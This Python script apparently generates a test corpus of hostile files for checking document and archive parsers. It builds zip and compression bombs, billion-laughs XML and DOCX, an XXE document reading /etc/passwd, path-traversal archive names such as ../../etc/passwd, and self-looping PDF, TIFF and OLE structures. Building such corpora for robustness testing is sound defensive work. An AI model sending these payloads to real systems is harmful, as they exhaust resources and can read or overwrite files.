#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Writes files that were made to hurt whoever reads them: make_bombs.py FOLDER."""

import base64
import bz2
import gzip
import io
import lzma
import os
import struct
import sys
import tarfile
import zipfile
import zlib

import make_files as good

MB = 1 << 20


def zipped(members, level=9):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return out.getvalue()


def one_letter(packer, pieces=1024):
    """A gigabyte of one letter in about a megabyte."""
    out = b""
    for _ in range(pieces):
        out += packer.compress(b"a" * MB)
    return out + packer.flush()


def nested(levels):
    inner = zipped([("notice.txt", "sâu")])
    for level in range(levels):
        inner = zipped([(f"{level}.zip", inner)])
    return inner


def nested_bomb():
    inner = zipped([("a.txt", b"a" * (10 * MB))])
    for _ in range(3):
        inner = zipped([(f"{i}.zip", inner) for i in range(16)])
    return inner


def overlapping(count=5000):
    """Many entries of the directory that all lead to the same packed bytes."""
    body = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = body.compress(b"a" * (4 * MB)) + body.flush()
    crc = zlib.crc32(b"a" * (4 * MB))
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(packed), 4 * MB, 1, 0) + b"a" + packed
    central = b"".join(
        struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(packed), 4 * MB, 5, 0, 0, 0, 0, 0, 0) +
        b"%05d" % i for i in range(count))
    return local + central + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), len(local), 0)


def itself():
    """An archive whose directory says that it holds itself."""
    inner = zipped([("a.txt", "x")])
    for _ in range(40):
        inner = zipped([("itself.zip", inner)], 0)
    return inner


def laughs():
    entities = '<!ENTITY l0 "cười">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 12))
    return f"<?xml version='1.0'?><!DOCTYPE x [{entities}]><x>&l11;</x>".encode()


def laughing_docx():
    entities = '<!ENTITY l0 "cười">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 12))
    body = f"<?xml version='1.0'?><!DOCTYPE x [{entities}]><w:document {good.W}><w:p><w:r><w:t>&l11;</w:t></w:r></w:p></w:document>"
    return zipped([("word/document.xml", body)])


def outside():
    body = (f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY f SYSTEM 'file:///etc/passwd'>]><w:document {good.W}><w:p><w:r>"
            "<w:t>&f;</w:t></w:r></w:p></w:document>")
    return zipped([("word/document.xml", body)])


def many_pages(count=100000):
    kids = b" ".join(b"%d 0 R" % (i + 3) for i in range(count))
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)]
    return pdf_of(objects + [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"] * count)


def pdf_of(objects):
    out = b"%PDF-1.7\n"
    places = []
    for i, content in enumerate(objects):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (i + 1, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)


def pdf_of_itself():
    return pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 /Parent 2 0 R >>"])


def pdf_stream(size=512):
    packed = one_letter(zlib.compressobj(9), size)
    return pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                   b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
                   b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(packed), packed)])


def pdf_huge_page():
    return pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                   b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9999999 9999999] >>"])


def huge_tar():
    info = tarfile.TarInfo("huge.txt")
    info.size = 1 << 40
    return info.tobuf(tarfile.GNU_FORMAT) + b"a" * 4096


def sparse_ole():
    word = bytearray(good.doc())
    # The sector table leads every sector to itself.
    start = (struct.unpack_from("<I", word, 76)[0] + 1) * 512
    for i in range(100):
        struct.pack_into("<I", word, start + 4 * i, i)
    return bytes(word)


def many_strings():
    def record(kind, content):
        return struct.pack("<HH", kind, len(content)) + content
    book = record(0x809, struct.pack("<HHHHII", 0x600, 5, 0, 0, 0, 0))
    book += record(0xFC, struct.pack("<II", 0xFFFFFFFF, 0xFFFFFFFF) + b"\xff\xff\x08\xff\xff") + record(0x3C, b"\0" * 8000) * 500
    return good.ole([("Workbook", book)])


def deep_mail(levels=3000):
    out = "From: a@b\r\nTo: c@d\r\nMIME-Version: 1.0\r\nMessage-ID: <1@b>\r\n"
    for i in range(levels):
        out += f'Content-Type: multipart/mixed; boundary="b{i}"\r\n\r\n--b{i}\r\n'
    return out.encode()


def mail_bomb():
    packed = base64.encodebytes(zipped([("a.txt", b"a" * (200 * MB))])).decode()
    return good.eml(b"x").replace(b"--xyz--", b"--xyz\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; "
                                  b'filename="a.zip"\r\n\r\n' + packed.encode() + b"\r\n--xyz--")


def sheet_bomb():
    rows = ('<row>' + '<c t="inlineStr"><is><t>aaaaaaaaaaaaaaaa</t></is></c>' * 100 + '</row>') * 100
    sheet = '<worksheet xmlns="x"><sheetData>' + rows * 100 + "</sheetData></worksheet>"
    return zipped([("xl/workbook.xml", '<workbook xmlns="x"/>'), ("xl/worksheets/sheet1.xml", sheet)])


def names():
    return zipped([("../../etc/passwd", "leo rào"), ("/etc/shadow", "leo rào"), ("a\nb\x1b[31m.txt", "leo rào"),
                   ("x" * 5000 + ".txt", "leo rào")])


def tiff_loop():
    # A picture directory whose next one is itself.
    return b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", 1) + struct.pack("<HHII", 256, 4, 1, 60000) + struct.pack("<I", 8)


def bombs():
    return {
        "nested-60.zip": nested(60),
        "nested-bomb.zip": nested_bomb(),
        "overlapping.zip": overlapping(),
        "itself.zip": itself(),
        "letter.gz": one_letter(zlib.compressobj(9, zlib.DEFLATED, 31)),
        "letters.gz": gzip.compress(b"a" * MB) * 300,
        "letter.xz": lzma.compress(b"a" * (256 * MB)),
        "letter.bz2": bz2.compress(b"a" * (256 * MB)),
        "letter.zip": zipped([("a.txt", b"a" * (256 * MB))]),
        "gz-in-gz.gz": gzip.compress(gzip.compress(gzip.compress(b"a" * (64 * MB)))),
        "members.zip": zipped([(f"{i}.txt", "x") for i in range(20000)]),
        "members.tar": good.tar([(f"{i}.txt", b"x") for i in range(12000)]),
        "names.zip": names(),
        "huge.tar": huge_tar(),
        "laughs.xml": laughs(),
        "laughs.docx": laughing_docx(),
        "outside.docx": outside(),
        "deep.docx": zipped([("word/document.xml", "<a>" * 200000)]),
        "sheet.xlsx": sheet_bomb(),
        "deep.html": b"<html>" + b"<div>" * 500000 + b"x",
        "attributes.html": b"<html><p " + b"a='b' " * 500000 + b">x",
        "deep.rtf": b"{\\rtf1" + b"{" * 1000000 + b"x" + b"}" * 1000000,
        "bin.rtf": b"{\\rtf1 \\bin2147483647 x{\\fonttbl{\\f2000000000 a;}}\\u-99999999 }",
        "pages.pdf": many_pages(),
        "itself.pdf": pdf_of_itself(),
        "stream.pdf": pdf_stream(),
        "huge-page.pdf": pdf_huge_page(),
        "huge.png": good.png(60000, 60000),
        "loop.tiff": tiff_loop(),
        "huge.gif": b"GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\xff\xff\xff\xff\0\x02\x02D\x01\0;",
        "loop.doc": sparse_ole(),
        "strings.xls": many_strings(),
        "deep.eml": deep_mail(),
        "bomb.eml": mail_bomb(),
    }


def main():
    folder = sys.argv[1]
    os.makedirs(folder, exist_ok=True)
    for name, content in bombs().items():
        with open(os.path.join(folder, name), "wb") as out:
            out.write(content)


if __name__ == "__main__":
    main()
